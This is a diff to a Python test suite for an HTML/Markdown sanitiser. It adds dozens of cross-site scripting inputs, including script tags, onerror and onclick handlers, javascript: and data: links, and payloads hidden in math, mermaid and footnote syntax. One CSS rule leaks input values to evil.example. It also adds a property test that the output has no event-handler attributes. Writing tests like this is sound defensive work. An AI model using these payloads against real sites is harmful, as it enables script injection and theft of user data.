@@ -5,7 +5,8 @@ from bleach._vendor.html5lib import parseFragment  # type: ignore[import-not-fou
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from scripthut_outputs.rendering import fill, for_our_pages
+from scripthut_outputs.rendering import fill, for_our_pages, formulas
+from scripthut_outputs.rendering.sanitising import TAGS
 
 from .reading import html_of, read
 
@@ -109,6 +110,43 @@ ATTACKS = [
     "&#0; &#xD800; &#x110000; &#99999999999; <p title='&#xD800;&#0;&#1;'>x</p>",
     "<abbr title='&#xD800;&#0;&#1;\ud7ff'>y</abbr><img src=x.png alt='&#xDFFF;'>",
     "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x00\x08\x7f",
+    "https://evil.example/\"onmouseover=alert(1) www.evil.example/'><script>alert(1)</script> javascript://x.example/%0a",
+    '<https://evil.example/"onclick=alert(1)> <data:text/html,x> x@evil.example"onclick=alert(1)',
+    "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>",
+    '[x][y]\n\n[y]: <java\tscript:alert(1)> "a" onclick="alert(1)"',
+    "x[^y]\n\n[^y]: <script>alert(1)</script> [z](javascript:alert(1)) <img src=x onerror=alert(1)>",
+    'x[^" onclick="alert(1)]\n\n[^" onclick="alert(1)]: y',
+    "x[^<script>]\n\n[^<script>]: y\n\n[^&#xFDD3;]: z\n\n[^&#xFDD3;]",
+    "> [!NOTE]\n> <script>alert(1)</script>\n> [x](javascript:alert(1))",
+    '> [!NOTE" onclick="alert(1)]\n> x',
+    "- [x] <img src=x onerror=alert(1)>\n- [ ] <input type=checkbox checked onclick=alert(1)>",
+    "<span class='task-mark' role=img aria-label=done>x</span><div class='alert alert-note' id=x>y</div>",
+    "<p class=scripthut-notice>forged</p><a class=permalink href=#x aria-label='Link to this heading'>y</a>",
+    "<details open ontoggle=alert(1)>\n<summary onclick=alert(1)>x</summary>\n\n<script>alert(1)</script>\n",
+    "<details>\n\n<details>\n\n**never closed",
+    "</details></details></section>\n\n# after",
+    "# <img src=x onerror=alert(1)> [x](javascript:alert(1)) <svg onload=alert(1)>",
+    "# x\n\n<h1 id=x onclick=alert(1)><a name=y>x</a></h1><h1><h2><h3>",
+    "<a href=x>\n\n# a heading in a link\n\n</a>",
+    "$\\text{<script>alert(1)</script>}$ $\\text{<img src=x onerror=alert(1)>}$",
+    "$\\href{javascript:alert(1)}{x} \\class{a}{b} \\style{position:fixed}{c} \\cssId{d}{e}$",
+    "$$\n\\unicode{x3c}script\\unicode{x3e} &lt;b&gt; &#60;b&#62; \\unicode{xfdd3}\n$$",
+    "$`\\color{url(https://evil.example)}{x} \\colorbox{red}{y}`$ $\\hspace{-999em}x \\raise{99em}{y}$",
+    '$"><script>alert(1)</script>$ $\\frac{<script>$ $a\\verb|<img src=x onerror=alert(1)>|$',
+    "```math\n</math><script>alert(1)</script>\n```\n\n```math\n\\def\\a{\\a\\a}\\a\n```",
+    "<math><mi>a</mi></math> <math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml>",
+    '```mermaid\n</pre><script>alert(1)</script>\nclick A "javascript:alert(1)"\n```',
+    '```html\n<script>alert(1)</script>\n<!-- </code></pre> -->\n```\n\n```"onclick=alert(1)\nx\n```',
+    '``` {.python onclick="alert(1)" #live}\nx\n```\n\n```<script>\nx\n```',
+    ':rocket: :<script>: :javascript: :+1"onclick=alert(1):',
+    "~~<script>alert(1)</script>~~ <del onclick=alert(1)>x</del>",
+    "\ufdd0alert \ufdd10\ufdd2 $x$ \ufdd3 <p class='\ufdd0alert alert-note' id='\ufdd0fn.1'>x</p> &#xFDD1;0&#xFDD2;",
+    "<p class='&#xFDD0;alert alert-note' title='&#xFDD1;0&#xFDD2;' id='&#xFDD0;fn.1'>x</p> $y$ [z](a '&#xFDD1;0;')",
+    "![$x$ `y`](a.png '$z$') <abbr title='$w$'>v</abbr> <img alt='$u$' src=b.png>",
+    "<table><tr><td>\n\n$x$\n\n```py\nprint(1)\n```\n\n</td></table>",
+    "<table>\n\n```py\n1\n```\n\n<tr>\n\n> [!NOTE]\n> x\n\n</table><select>\n\n$x$\n\n",
+    "<script>\n\n```py\nprint(1)\n```\n\n$x$ </script> <textarea>\n\n$y$\n\n</textarea>",
+    "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/a)}</style>",
     "<" * 300 + "a" + ">" * 300,
     "<a" * 200,
     "<p title='" * 100,
@@ -162,10 +200,25 @@ TAG_PIECES = (
 UNSAFE_PIECES = (
     "svg math script style blockquote href src on error= javascript: data: scripthut-file: https:// // ../ %2e%2e/ %00"
 )
+GITHUB_PIECES = (
+    "$ $$ $x$ \\frac \\text{ } [^1] [^1]: [x] [ ] > >[!NOTE] # ## ```py ```math ```mermaid :rocket: :x: ~~ "
+    "https://a.example www. a@b.example <details> </details> <summary> 1. id= class= \ufdd0 \ufdd1 \ufdd2 \ufdd3 0"
+)
 TEXT_PIECES = (
     "= \" ' ` & ; : # ! [ ] ( ) | - * _ ~~~ ``` -- &lt; &#60; &#x6a; x.png \x00 \x1b \ufeff \u202e é 🎈 \x02 \x03"
 )
-PIECES = st.sampled_from([*f"{TAG_PIECES} {UNSAFE_PIECES} {TEXT_PIECES}".split(" "), " ", "\n", "\n\n", "\t"])
+PIECES = st.sampled_from(
+    [
+        *f"{TAG_PIECES} {UNSAFE_PIECES} {GITHUB_PIECES} {TEXT_PIECES}".split(" "),
+        " ",
+        "\n",
+        "\n\n",
+        "\t",
+        "    ",
+        "\n- ",
+        "\n> ",
+    ]
+)
 
 
 @given(st.lists(PIECES, max_size=60).map("".join))
@@ -175,3 +228,18 @@ def test_any_mixture_of_markup_gives_balanced_harmless_html(text: str) -> None:
 
     read(rendered)
     read(on_our_page(rendered))
+
+
+@given(st.lists(PIECES, max_size=40).map("".join))
+@settings(max_examples=300, deadline=None)
+def test_a_browser_sees_what_we_let_through_and_no_more(text: str) -> None:
+    page = f"<main><section>{on_our_page(html_of(text))}</section><p>after</p></main>"
+
+    tree = parseFragment(page, namespaceHTMLElements=False)
+
+    main = tree.find("main")
+    assert [child.tag for child in main] == ["section", "p"]
+    for element in main[0].iter():
+        name = element.tag.removeprefix("{http://www.w3.org/1998/Math/MathML}")
+        assert name in TAGS | formulas.ELEMENTS | {"section"}
+        assert not {key for key in element.attrib if key.startswith("on") or key in {"style", "name"}}
